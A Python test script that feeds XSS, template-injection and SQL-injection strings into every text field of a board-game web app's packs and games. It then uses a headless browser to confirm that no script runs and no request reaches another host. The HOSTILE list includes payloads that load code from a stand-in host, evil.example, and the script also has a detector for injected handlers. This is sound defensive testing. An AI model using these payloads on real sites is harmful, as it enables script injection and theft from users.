"""Hostile strings in every text field, looked at in a browser: `python -m bench.poison`.

Names and notes of packs, cards and rules of the house, files of games with such packs inside, and whatever
else a pack holds, one field at a time. No script may run, no page may ask another host for anything, and the
browser may find nothing in a page that its policy had to stop.
"""

from __future__ import annotations

import argparse
import sys
import tempfile
from collections.abc import Iterator, Sequence
from copy import deepcopy
from itertools import count, islice
from pathlib import Path
from typing import Any, Final

from httpx2 import Client, Response
from playwright.sync_api import Dialog, Page, Route
from tests.browser.chromium import find_chromium, launched, phone
from tests.browser.watching import Watch

from adversaire.games import GAMES
from adversaire.packs.own import base_data
from adversaire.packs.parts import key_of, parts_of
from adversaire.packs.write import new_pack, to_toml
from adversaire.web.server.security import POLICY
from bench.players import API
from bench.rows import Row, table
from bench.server import PATIENCE, running

#: As a name may have eighty characters.
HOSTILE: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script src=//evil.example/x.js></script>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    '" style="background:url(//evil.example/a)" x="',
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<use href=data:image/svg+xml,<svg/onload=alert(1)>#x />",
    "{{7*7}}{%include 'x'%}${7*7}#{7*7}",
    "{most}{place:?1=a|*=b}{0.__class__}",
    "<!--<script>alert(1)//-->",
    "<style>@import'//evil.example'</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x hx-get=//evil.example hx-trigger=load>",
    "<x data-hx-on:load=alert(1) hx-on::load=alert(1)>",
    "<b>bold</b><plaintext>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "'; DROP TABLE games; --",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
)
NAMED: Final = ("name_en", "name_fr", "note_en", "note_fr")
#: Besides its names, so many fields of each pack, one at a time.
FIELDS: Final = 60
CARDS: Final = 6

#: What a page must not have: something of ours never looks so.
PLANTED: Final = """() => [...document.querySelectorAll('*')].filter((it) =>
  [...it.attributes].some((one) => /^on|^style$|^hx-on/.test(one.name) || /^\\s*javascript:/i.test(one.value)
    && ['href', 'src', 'action', 'xlink:href'].includes(one.name)) ||
  ['IFRAME', 'BASE', 'STYLE', 'OBJECT', 'EMBED'].includes(it.tagName) ||
  it.tagName === 'SCRIPT' && !it.src).map((it) => it.outerHTML.slice(0, 200))"""


class Poison:
    """The next hostile string, for ever."""

    def __init__(self) -> None:
        self.used = count()

    def __call__(self) -> str:
        return HOSTILE[next(self.used) % len(HOSTILE)]


class Sight:
    """A browser that looks at pages, and what it found."""

    def __init__(self, page: Page, watch: Watch) -> None:
        self.page, self.watch = page, watch
        self.pages = 0
        self.found: list[str] = []
        page.on("dialog", self.heard)
        page.add_init_script(
            "window.stopped = []; addEventListener('securitypolicyviolation',"
            " (it) => window.stopped.push(it.violatedDirective + ' ' + it.blockedURI))"
        )

    def heard(self, dialog: Dialog) -> None:
        self.found.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def look(self, address: str) -> None:
        self.page.goto(address)
        self.page.wait_for_load_state("load")
        self.pages += 1
        self.found += [f"{address}: {one}" for one in self.page.evaluate(PLANTED)]
        self.found += [f"{address}: stopped {one}" for one in self.page.evaluate("window.stopped")]
        self.found += [f"{address}: {one}" for one in self.watch.faults]
        self.watch.faults.clear()

    def prove(self, address: str) -> None:
        """Somebody who sees no harm anywhere must have been seen to see some."""
        page = "<title>x</title><img src=x onerror=alert(1)><script>alert(1)</script>"
        policy = {"content-type": "text/html", "content-security-policy": POLICY}
        self.page.route(f"{address}/bad", lambda route: route.fulfill(headers=policy, body=page))
        self.look(f"{address}/bad")
        if not any("stopped" in one for one in self.found) or not any("<img" in one for one in self.found):
            raise RuntimeError("harm would not be noticed")
        self.page.unroute(f"{address}/bad")
        self.found.clear()

    def look_at_answer(self, response: Response) -> None:
        """A page that only a form leads to, as the server sent it."""
        address = f"{response.url.copy_with(path='/answer', query=None)}"

        def give(route: Route) -> None:
            headers = {name: response.headers[name] for name in ("content-type", "content-security-policy")}
            route.fulfill(status=200, headers=headers, body=response.text)

        self.page.route(address, give)
        self.look(address)
        self.page.unroute(address)


def poisoned_pack(game: str, poison: Poison) -> dict[str, Any]:
    """Every card of a game as an owner's, with hostile names; strings that are no names stay as they are."""
    own: dict[str, Any] = new_pack(GAMES[game], "trial", poison())
    base = deepcopy(base_data(GAMES[game]))
    own |= {part.id: base[part.id] for part in parts_of(GAMES[game])}
    own |= {name: poison() for name in NAMED if name in own or name.startswith("name")}
    for place, name in leaves(own):
        if name in NAMED:
            place[name] = poison()
    return own


def leaves(value: Any) -> Iterator[tuple[Any, Any]]:
    """Where every string of a pack stands."""
    inside: Any = value.items() if isinstance(value, dict) else enumerate(value)
    for name, one in list(inside):
        if isinstance(one, str):
            yield value, name
        elif isinstance(one, dict | list):
            yield from leaves(one)


def take_in(client: Client, pack: dict[str, Any]) -> Response:
    return client.post("/packs/import", files={"file": ("pack.toml", to_toml(pack).encode())})


def poison_game(game: str, client: Client, sight: Sight, poison: Poison, fields: int) -> int:
    """All that can be made of one game; how many refusals there were."""
    pack = poisoned_pack(game, poison)
    taken = take_in(client, pack)
    if taken.status_code != 303:
        raise RuntimeError(f"{game}: names alone must not be refused: {taken.text[-2000:]}")
    address = taken.headers["location"]
    id = address.rsplit("/", 1)[1].partition("?")[0]
    client.post(f"/presets/{game}", data={"preset_name": poison()})
    for page in ("/packs", f"/p/{id}", f"/new/{game}?pack={id}", f"/rules/{game}?q={poison()}"):
        sight.look(page)
    for part in parts_of(GAMES[game]):
        entries = pack[part.id] if isinstance(pack[part.id], list) else []
        for entry in entries[:CARDS]:
            sight.look(f"/p/{id}/{part.id}/{key_of(part, entry)}")
    look_at_tables(game, id, client, sight)
    return sum(refused_field(client, sight, game, number, poison) for number in range(fields))


def look_at_tables(game: str, pack: str, client: Client, sight: Sight) -> None:
    """A game with that pack, on screen and beside cardboard, and the same from its file."""
    for mode in ("virtual", "companion"):
        new = client.post(API, json={"game": game, "mode": mode, "seed": 1, "pack": pack})
        table = new.raise_for_status().json()
        for _ in range(6):
            question = table["question"]
            given = {
                "question": question["id"],
                "answer": question["answers"][0]["value"],
                "seq": table["seq"],
            }
            table = client.post(f"{API}/{table['id']}/answer", json=given).raise_for_status().json()
            if table["question"] is None:
                break
        file = client.get(f"/g/{table['id']}/export").text
        again = client.post("/api/v1/import", content=file).raise_for_status().json()
        for page in ("", "/history", "/adjust", "/legend", "/help", "/put-back"):
            sight.look(f"/g/{table['id']}{page}")
        sight.look(f"/g/{again['id']}")


def refused_field(client: Client, sight: Sight, game: str, number: int, poison: Poison) -> bool:
    """One string of a pack that is no name; whether it was refused. Either way somebody looks at it."""
    pack: dict[str, Any] = new_pack(GAMES[game], "trial", "Trial")
    base = deepcopy(base_data(GAMES[game]))
    pack |= {part.id: base[part.id] for part in parts_of(GAMES[game])}
    places = [(place, name) for place, name in leaves(pack) if name not in NAMED]
    place, name = places[number * 37 % len(places)]
    place[name] = poison()
    answer = take_in(client, pack)
    if answer.status_code == 303:
        sight.look(answer.headers["location"])
        return False
    if answer.status_code >= 500:
        sight.found.append(f"{answer.status_code} for {name}")
    sight.look_at_answer(answer)
    return True


def poisoned(fields: int = 0, games: Sequence[str] = ()) -> list[Row]:
    executable = find_chromium()
    if executable is None:
        raise SystemExit("there is no Chromium; scripts/install-chromium can do it")
    poison, refused = Poison(), 0
    with (
        tempfile.TemporaryDirectory() as name,
        running(Path(name)) as server,
        launched(executable) as browser,
        phone(browser, server.address) as context,
        Client(base_url=server.address, timeout=PATIENCE) as client,
    ):
        sight = Sight(context.new_page(), Watch(context, server.address))
        sight.prove(server.address)
        for game in games or [game.id for game in GAMES if parts_of(game)]:
            refused += poison_game(game, client, sight, poison, fields or FIELDS)
        for page in ("/", "/results", "/packs", "/settings"):
            sight.look(page)
    for one in islice(sight.found, 20):
        print(one, file=sys.stderr)
    used = next(poison.used)
    return [
        Row("poisoned fields", str(used)),
        Row("of these refused", str(refused)),
        Row("pages looked at", str(sight.pages)),
        Row("scripts, dialogs, requests elsewhere", str(len(sight.found)), "none", not sight.found),
    ]


def main() -> int:
    asked = argparse.ArgumentParser(description=__doc__)
    asked.add_argument("games", nargs="*")
    asked.add_argument("--fields", type=int, default=0)
    options = asked.parse_args()
    rows = poisoned(options.fields, options.games)
    print(table(rows))
    return 0 if all(row.kept for row in rows) else 1


if __name__ == "__main__":
    sys.exit(main())
